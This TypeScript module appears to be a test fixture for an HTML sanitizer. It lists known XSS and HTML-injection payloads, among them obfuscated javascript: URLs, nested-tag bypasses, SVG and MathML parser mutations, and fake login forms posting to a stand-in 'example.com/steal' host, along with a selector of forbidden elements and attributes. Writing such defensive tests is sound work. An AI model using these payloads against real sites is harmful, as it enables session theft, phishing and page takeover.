/**
 * What has been tried to run code, cover a page, send something or fetch something by way of a text. Each does it
 * through `steal`; a browser that lets it run has such a function.
 */
export const htmlAttacks: readonly string[] = [
  // Scripts and handlers.
  '<script>steal()</script>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<img src=x onerror=steal()>',
  '<img src="/uploads/1.jpg" onload="steal()">',
  '<p onclick="steal()">text</p>',
  '<p onmouseover=steal() onfocus=steal() tabindex=1 autofocus>text</p>',
  '<details open ontoggle=steal()><summary>more</summary></details>',
  '<video><source onerror="steal()"></video>',
  '<audio src=x onerror=steal()></audio>',
  '<marquee onstart=steal()>text</marquee>',
  '<body onload=steal()>',
  // Addresses that run.
  '<a href="javascript:steal()">link</a>',
  '<a href="JaVaScRiPt&#58;steal()">link</a>',
  '<a href="&#14;java&Tab;script&NewLine;:steal()">link</a>',
  '<a href="vbscript:steal()">link</a>',
  '<a href="data:text/html,<script>steal()</script>">link</a>',
  '<img src="data:image/svg+xml,<svg onload=steal()>">',
  // Frames, forms, other documents.
  '<iframe src="https://example.com/steal"></iframe>',
  '<iframe srcdoc="<script>parent.steal()</script>"></iframe>',
  '<object data="https://example.com/steal"></object><embed src="https://example.com/steal">',
  '<form action="https://example.com/steal"><input name=a><button>Log in</button></form>',
  '<button formaction="javascript:steal()">Log in</button><input type=image src=x onerror=steal()>',
  '<base href="https://example.com/steal/">',
  '<meta http-equiv="refresh" content="0;url=https://example.com/steal">',
  '<link rel="stylesheet" href="https://example.com/steal.css">',
  // Styles and names that reach into the page.
  '<style>@import url(https://example.com/steal);</style>',
  '<p style="position:fixed;inset:0;background:url(https://example.com/steal)">text</p>',
  '<p id="root" class="steal" data-steal="1">text</p>',
  // Parsers that read a text twice, and differently.
  '<svg><style>*{background:url(steal)}</style></svg>',
  '<svg><animate onbegin=steal() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:steal()"><text x="20" y="20">text</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()>',
  '<math href="javascript:steal()">text</math>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<template><img src=x onerror=steal()></template><!--><img src=x onerror=steal()>-->',
];

/** What no text may hold, as a selector. */
export const forbidden =
  'script, iframe, object, embed, form, input, button, svg, math, style, link, base, meta, video, audio, template, noscript, ' +
  '[style], [id], [class], [onerror], [onload], [onclick], [tabindex], [href^="javascript" i], [href^="data" i], [href^="vbscript" i]';
